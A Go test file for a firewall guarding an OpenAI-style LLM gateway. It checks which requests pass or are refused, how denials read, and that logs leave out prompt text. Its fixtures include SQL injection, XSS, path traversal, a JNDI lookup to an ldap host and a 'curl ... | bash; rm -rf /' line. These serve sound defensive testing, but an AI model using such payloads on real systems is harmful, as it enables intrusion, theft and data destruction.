package main

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"log/slog"
	"strings"
	"testing"

	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"
)

var shared = func() *firewall {
	made, err := newFirewall(1<<20, "")
	if err != nil {
		panic(err)
	}
	return made
}()

func chat(body string) request {
	return request{
		id: "r-1", client: "203.0.113.7", method: "POST", target: "/v1/chat/completions", host: "127.0.0.1:8080", protocol: "HTTP/1.1",
		headers: map[string]string{"content-type": "application/json", "accept": "*/*", "user-agent": "curl/8", "content-length": fmt.Sprint(len(body))},
		body:    []byte(body),
	}
}

func with(change func(*request)) request {
	r := chat(`{"model":"tiny","messages":[{"role":"user","content":"hello"}]}`)
	r.headers["content-length"] = fmt.Sprint(len(r.body))
	change(&r)
	return r
}

func prompt(text string) request {
	body, err := json.Marshal(map[string]any{"model": "tiny", "stream": true, "messages": []any{
		map[string]any{"role": "system", "content": "You help with code."}, map[string]any{"role": "user", "content": text}}})
	if err != nil {
		panic(err)
	}
	return chat(string(body))
}

const injection = "1' UNION SELECT password FROM users-- "

func TestCheck(t *testing.T) {
	large := strings.Repeat("a b ", 1<<18) + "and more"
	for _, c := range []struct {
		name   string
		r      request
		status int
	}{
		{"a plain chat", with(func(*request) {}), 0},
		{"the list of models", request{method: "GET", target: "/v1/models", host: "gateway.test", protocol: "HTTP/2", headers: map[string]string{"accept": "*/*"}}, 0},
		{"SQL in a prompt", prompt("Explain: SELECT * FROM users WHERE id=1 OR 1=1; DROP TABLE users; -- '" + injection), 0},
		{"Python in a prompt", prompt("import os; os.system('cat /etc/passwd'); eval(__import__('base64').b64decode(x))"), 0},
		{"HTML in a prompt", prompt(`Fix <script>alert(document.cookie)</script><img src=x onerror="alert(1)">`), 0},
		{"a shell in a prompt", prompt("run: curl http://example.com/x.sh | bash; rm -rf / && `id` $(whoami) ../../etc/passwd"), 0},
		{"Java in a prompt", prompt("Runtime.getRuntime().exec(\"sh\"); ${jndi:ldap://example.com/a} java.lang.ProcessBuilder"), 0},
		{"code in a part of a message", chat(`{"model":"tiny","messages":[{"role":"user","content":[{"type":"text","text":"SELECT 1 UNION SELECT password FROM users-- <script>alert(1)</script>"}]}]}`), 0},
		{"code in a completion's prompt", with(func(r *request) {
			r.target = "/v1/completions"
			r.body = []byte(`{"model":"tiny","prompt":["' OR 1=1; DROP TABLE users--","<script>alert(1)</script>"]}`)
			r.headers["content-length"] = fmt.Sprint(len(r.body))
		}), 0},
		{"code in a tool call's arguments", chat(`{"model":"tiny","messages":[{"role":"assistant","tool_calls":[{"type":"function","function":{"name":"run","arguments":"{\"q\":\"SELECT a FROM b UNION SELECT password FROM users--\"}"}}]}]}`), 0},
		{"an injection in the query", with(func(r *request) {
			r.target += "?id=1%27%20OR%20%271%27=%271%20UNION%20SELECT%20password%20FROM%20users--"
		}), 403},
		{"an injection in the path of a read", request{method: "GET", target: "/v1/models?x=../../../../etc/passwd", host: "gateway.test", protocol: "HTTP/1.1", headers: map[string]string{}}, 403},
		{"an injection in the model", chat(`{"model":"x' UNION SELECT password FROM users-- ","messages":[]}`), 403},
		{"a script in the user", chat(`{"model":"tiny","user":"<script>alert(1)</script>","messages":[]}`), 403},
		{"an injection in a name beside the prompt", chat(`{"messages":[{"role":"user","content":"hi","name":"` + injection + `"}]}`), 403},
		{"a JNDI look-up in a header", with(func(r *request) { r.headers["x-a"] = "${jndi:ldap://example.com/a}" }), 403},
		{"a scanner", with(func(r *request) { r.headers["user-agent"] = "sqlmap/1.8" }), 403},
		{"a query that borrows the prompt's name", with(func(r *request) { r.target += "?json.messages.0.content=hello" }), 403},
		{"the prompt's name where no prompt is", with(func(r *request) {
			r.target = "/admin"
			r.body = []byte(`{"prompt":"` + injection + `"}`)
			r.headers["content-length"] = fmt.Sprint(len(r.body))
		}), 403},
		{"JSON under another name", with(func(r *request) { r.headers["content-type"] = "application/x-www-form-urlencoded" }), 415},
		{"JSON under no name", with(func(r *request) { delete(r.headers, "content-type") }), 415},
		{"JSON with a charset", with(func(r *request) { r.headers["content-type"] = "application/json; charset=utf-8" }), 0},
		{"a body that is no JSON", chat(`{"model":`), 400},
		{"a body over the limit", prompt(large), 413},
		{"an attack as a name in the metadata", chat(`{"messages":[],"metadata":{"<script>alert(1)</script>":"a"}}`), 403},
		{"an attack as a name with nothing in it", chat(`{"messages":[],"<script>alert(1)</script>":{}}`), 403},
		{"an attack behind a second model", chat(`{"model":"tiny","messages":[],"model":"x' UNION SELECT password FROM users-- "}`), 403},
		{"an attack in an escaped name", chat(`{"\u006dodel":"x' UNION SELECT password FROM users-- ","messages":[]}`), 403},
		{"an attack in the address of a tool", chat(`{"messages":[],"tools":[{"type":"mcp","server_url":"http://a/?x=' UNION SELECT password FROM users-- "}]}`), 403},
		{"an attack as the name of the tool to call", chat(`{"messages":[],"tool_choice":{"type":"function","function":{"name":"x' UNION SELECT password FROM users-- "}}}`), 403},
		{"an attack among the tools that are allowed", chat(`{"messages":[],"tool_choice":{"allowed_tools":{"tools":[{"name":"<script>alert(1)</script>"}]}}}`), 403},
		{"JSON that is no object", chat(`["x' UNION SELECT password FROM users-- "]`), 403},
		{"an endpoint with a slash at its end", with(func(r *request) { r.target += "/" }), 0},
		{"no body yet", with(func(r *request) { r.body = nil }), 0},
		{"JSON behind a byte order mark", chat("\ufeff" + `{"model":"tiny","messages":[]}`), 0},
		{"an attack behind a byte order mark", chat("\ufeff" + `{"model":"x' UNION SELECT password FROM users-- ","messages":[]}`), 403},
		{"two byte order marks", chat("\ufeff\ufeff" + `{"model":"tiny","messages":[]}`), 400},
		{"JSON as UTF-16", chat("\xff\xfe{\x00}\x00"), 400},
		{"two documents", chat(`{"messages":[]}{"messages":[]}`), 400},
		{"deep nesting outside the prompt", chat(`{"a":` + strings.Repeat("[", 100) + strings.Repeat("]", 100) + `}`), 413},
		{"deep nesting in the prompt", chat(`{"messages":[{"role":"user","content":` + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + `}]}`), 0},
		{"much text outside the prompt", chat(`{"messages":[],"note":"` + strings.Repeat("a b ", 5000) + `"}`), 413},
		{"a large body elsewhere", with(func(r *request) {
			r.target, r.body = "/v1/models", []byte(strings.Repeat("a b ", 5000))
			r.headers["content-type"] = "text/plain"
		}), 413},
		{"more fields than are inspected", chat(`{"a":[` + strings.Repeat(`"",`, 20001) + `""]}`), 413},
		{"token ids in a field that nobody knows", chat(`{"a":[` + strings.Repeat("1,", 20001) + `1],"b":[[` + strings.Repeat("-0.5,null,true,", 9000) + `1]]}`), 0},
		{"JSON that is compressed", with(func(r *request) { r.headers["content-encoding"] = "gzip" }), 415},
		{"a method of the API that nothing takes here", with(func(r *request) { r.method, r.body = "DELETE", nil }), 405},
		{"an attack by a method that nothing takes", with(func(r *request) { r.method, r.target = "GETS", "/v1/models?x=../../../../etc/passwd" }), 405},
	} {
		t.Run(c.name, func(t *testing.T) {
			refused, err := shared.check(c.r)
			if err != nil {
				t.Fatal(err)
			}
			got := 0
			if refused != nil {
				got = refused.status
			}
			if got != c.status {
				t.Errorf("status %d, want %d (0 passes)", got, c.status)
				if refused != nil {
					for _, m := range refused.rules {
						t.Log(m.Rule().ID(), m.Message())
					}
				}
			}
		})
	}
}

func TestADenialIsAnErrorOfTheOpenAIAPI(t *testing.T) {
	a := &authorization{firewall: shared, log: slog.New(slog.DiscardHandler)}
	for _, c := range []struct {
		r      request
		status int
		code   string
	}{
		{chat(`{"model":"<script>alert(1)</script>"}`), 403, "blocked_by_firewall"},
		{chat(`{"model":`), 400, "invalid_body"},
		{with(func(r *request) { delete(r.headers, "content-type") }), 415, "unsupported_media_type"},
		{with(func(r *request) { r.headers["content-encoding"] = "zstd" }), 415, "unsupported_media_type"},
		// as OpenAI's own answer to a method that an endpoint does not take
		{with(func(r *request) { r.method = "DELETE" }), 405, "method_not_supported"},
		{chat(`{"note":"` + strings.Repeat("a b ", 5000) + `"}`), 413, "request_too_large"},
	} {
		c.r.headers["x-request-id"] = "r-1"
		answer, err := a.Check(t.Context(), &authv3.CheckRequest{Attributes: &authv3.AttributeContext{Request: &authv3.AttributeContext_Request{
			Http: &authv3.AttributeContext_HttpRequest{Method: c.r.method, Path: c.r.target, Host: c.r.host, Headers: c.r.headers, RawBody: c.r.body},
		}}})
		if err != nil {
			t.Fatal(err)
		}
		denied := answer.GetDeniedResponse()
		var body struct {
			Error struct {
				Message, Type, Code string
				RequestID           string `json:"request_id"`
				Param               *string
			}
		}
		if err := json.Unmarshal([]byte(denied.GetBody()), &body); err != nil {
			t.Fatal(err, denied.GetBody())
		}
		e := body.Error
		allow := ""
		for _, h := range denied.GetHeaders() {
			if h.GetHeader().GetKey() == "allow" {
				allow = h.GetHeader().GetValue()
			}
		}
		// RFC 9110, 15.5.6
		if (allow != "") != (c.status == 405) {
			t.Errorf("%d with the header allow: %q", c.status, allow)
		}
		if int(denied.GetStatus().GetCode()) != c.status || e.Code != c.code || e.Type != "invalid_request_error" || e.RequestID != "r-1" || len(e.Message) < 20 {
			t.Errorf("want %d %s: %d %s", c.status, c.code, denied.GetStatus().GetCode(), denied.GetBody())
		}
	}
}

func TestLogLineHoldsNoText(t *testing.T) {
	r := chat(`{"model":"x' UNION SELECT password FROM users-- ","messages":[{"role":"user","content":"my secret prompt"}]}`)
	r.target += "?token=hidden"
	refused, err := shared.check(r)
	if err != nil || refused == nil {
		t.Fatal("should be refused", err)
	}
	var out bytes.Buffer
	logRefusal(slog.New(slog.NewJSONHandler(&out, nil)), r, refused)
	for _, text := range []string{"secret prompt", "UNION", "password", "hidden"} {
		if strings.Contains(out.String(), text) {
			t.Errorf("the line holds %q: %s", text, out.String())
		}
	}
	var line struct {
		Status  int
		Path    string
		Rules   []int
		Attacks []string
		Targets []string
	}
	if err := json.Unmarshal(out.Bytes(), &line); err != nil {
		t.Fatal(err)
	}
	if line.Status != 403 || line.Path != "/v1/chat/completions" || len(line.Rules) == 0 || !contains(line.Attacks, "sqli") || !contains(line.Targets, "ARGS:json[model]") {
		t.Errorf("the line does not tell what happened: %s", out.String())
	}
}

func TestLogLineNamesServiceAndUserWhereTheGatewayKnowsThem(t *testing.T) {
	for name, c := range map[string]struct {
		said map[string]string
		want map[string]any
	}{
		"at the route of a model": {
			map[string]string{"namespace": "llm", "service": "hello", "model": "tiny"},
			map[string]any{"namespace": "llm", "service": "hello", "model": "tiny", "user": "alice"},
		},
		"where requests enter, since the model is the client's word there": {
			map[string]string{"namespace": "llm", "service": "hello"},
			map[string]any{"namespace": "llm", "service": "hello", "model": nil, "user": "alice"},
		},
		"before the token is verified, when anybody may say who he is": {
			nil,
			map[string]any{"namespace": nil, "service": nil, "model": nil, "user": nil},
		},
	} {
		r := chat(`{"model":"<script>alert(1)</script>"}`)
		r.headers["x-user"] = "alice"
		var out bytes.Buffer
		a := &authorization{firewall: shared, log: slog.New(slog.NewJSONHandler(&out, nil))}
		attributes := &authv3.AttributeContext{ContextExtensions: c.said, Request: &authv3.AttributeContext_Request{
			Http: &authv3.AttributeContext_HttpRequest{Method: r.method, Path: r.target, Host: r.host, Headers: r.headers, RawBody: r.body},
		}}
		if _, err := a.Check(t.Context(), &authv3.CheckRequest{Attributes: attributes}); err != nil {
			t.Fatal(err)
		}
		var line map[string]any
		if err := json.Unmarshal(out.Bytes(), &line); err != nil {
			t.Fatal(err, out.String())
		}
		for key, want := range c.want {
			if line[key] != want {
				t.Errorf("%s: %s is %v, want %v", name, key, line[key], want)
			}
		}
	}
}

func TestWrongRulesAreRefused(t *testing.T) {
	for _, c := range []struct {
		limit int
		more  string
	}{{1 << 20, `SecRule ARGS "@rx (" "id:1,phase:2,deny"`}, {1 << 20, "SecNonsense On"}, {0, ""}} {
		if _, err := newFirewall(c.limit, c.more); err == nil {
			t.Errorf("%d, %q: no error", c.limit, c.more)
		}
	}
}

func contains(values []string, wanted string) bool {
	for _, value := range values {
		if value == wanted {
			return true
		}
	}
	return false
}

// What is asked again is answered from memory; whatever else differs is inspected, also when most of it is known.
func TestOnlyTheSameQuestionIsRemembered(t *testing.T) {
	f, err := newFirewall(1<<20, "")
	if err != nil {
		t.Fatal(err)
	}
	asks := func(text, id string) request {
		r := prompt(text)
		r.headers["x-request-id"] = id
		return r
	}
	known := func(r request) bool { return f.passed.has(questionOf(r, inspectedBody(r).arguments)) }
	pass := func(r request) {
		t.Helper()
		if refused, err := f.check(r); err != nil || refused != nil {
			t.Fatal(refused, err)
		}
	}
	first := asks("Hello.", "0f9dc2f2-8b8c-4b3e-9d0a-6a5f4d3c2b1a")
	if pass(first); !known(first) {
		t.Error("a request that passed is not remembered")
	}
	if !known(asks("Another prompt, of another length. "+injection, "7c1d8a90-1b2c-4d3e-8f4a-5b6c7d8e9f00")) {
		t.Error("the text for the model, its length and the request's id make another question")
	}
	for name, change := range map[string]func(*request){
		"the client":        func(r *request) { r.client = "203.0.113.8" },
		"the method":        func(r *request) { r.method = "PUT" },
		"the query":         func(r *request) { r.target += "?a=b" },
		"the host":          func(r *request) { r.host = "example.com" },
		"the protocol":      func(r *request) { r.protocol = "HTTP/2" },
		"a header":          func(r *request) { r.headers["accept"] = "text/html" },
		"one header more":   func(r *request) { r.headers["x-a"] = "b" },
		"an id of its own":  func(r *request) { r.headers["x-request-id"] += "-1" },
		"an attack as id":   func(r *request) { r.headers["x-request-id"] = "${jndi:ldap://example.com/a}" },
		"no length":         func(r *request) { delete(r.headers, "content-length") },
		"a length of 0":     func(r *request) { r.headers["content-length"] = "0" },
		"a field":           func(r *request) { r.body = []byte(`{"model":"tiny","stream":true,"note":"a b","messages":[]}`) },
		"a name of a field": func(r *request) { r.body = []byte(`{"model":"tiny","stream":true,"note":{},"messages":[]}`) },
	} {
		r := asks("Hello.", first.headers["x-request-id"])
		if change(&r); known(r) {
			t.Errorf("%s makes no other question", name)
		}
	}
	// the same bytes cut at another place
	for _, body := range []string{`{"messages":[],"ab":"c d"}`, `{"messages":[],"a":"bc d"}`} {
		r := chat(body)
		if known(r) {
			t.Errorf("%s was not asked", body)
		}
		pass(r)
	}
	denied := chat(`{"model":"x' UNION SELECT password FROM users-- ","messages":[]}`)
	for range 2 {
		if refused, err := f.check(denied); err != nil || refused == nil || refused.status != 403 || len(refused.rules) == 0 {
			t.Error("an attack that is repeated is not denied as before", refused, err)
		}
	}
	own, err := newFirewall(1<<20, `SecRule REQUEST_METHOD "@streq TRACE" "id:1,phase:1,deny,status:403"`)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := own.check(first); err != nil || own.passed != nil {
		t.Error("something is remembered beside directives of the operator's own", err)
	}
}

func TestMemoryIsBounded(t *testing.T) {
	p := &passed{}
	often := question{1}
	for i := range 5 * mostRemembered {
		var q question
		binary.BigEndian.PutUint64(q[8:], uint64(i))
		p.add(q)
		if i == 0 {
			p.add(often)
		} else if !p.has(often) {
			t.Fatal("forgotten though it is asked all the time, after", i)
		}
		if len(p.young)+len(p.before) > 2*mostRemembered {
			t.Fatal("remembers", len(p.young)+len(p.before))
		}
	}
	if p.has(question{}) {
		t.Error("what nobody asked again is still there")
	}
}

func BenchmarkCheck(b *testing.B) {
	messages := []any{}
	for range 9000 {
		messages = append(messages, dict{"role": "user", "content": "x x x x x x x"})
	}
	for _, c := range []struct {
		name string
		r    request
		pass bool
	}{
		{"headers alone", with(func(r *request) { r.body = nil }), true},
		{"a chat of 2 kB", prompt(strings.Repeat("Why is the sky blue? SELECT * FROM users; ", 50)), true},
		{"a chat of 1 MB", prompt(strings.Repeat("Why is the sky blue? SELECT * FROM users; ", 24_000)), true},
		{"9,000 messages", post("/v1/chat/completions", clients[0], conversation(messages...)), true},
		{"the most that is inspected", chat(`{"messages":[],"note":"` + strings.Repeat("select from <b> ;", mostInspectedBytes/17-10) + `"}`), false},
	} {
		b.Run(c.name, func(b *testing.B) {
			for i := 0; b.Loop(); i++ {
				c.r.headers["authorization"] = fmt.Sprint("Bearer ", i) // seen for the first time
				if refused, err := shared.check(c.r); err != nil || c.pass == (refused != nil) {
					b.Fatal(refused, err)
				}
			}
		})
		b.Run(c.name+", again", func(b *testing.B) {
			for b.Loop() {
				if refused, err := shared.check(c.r); err != nil || c.pass == (refused != nil) {
					b.Fatal(refused, err)
				}
			}
		})
	}
}
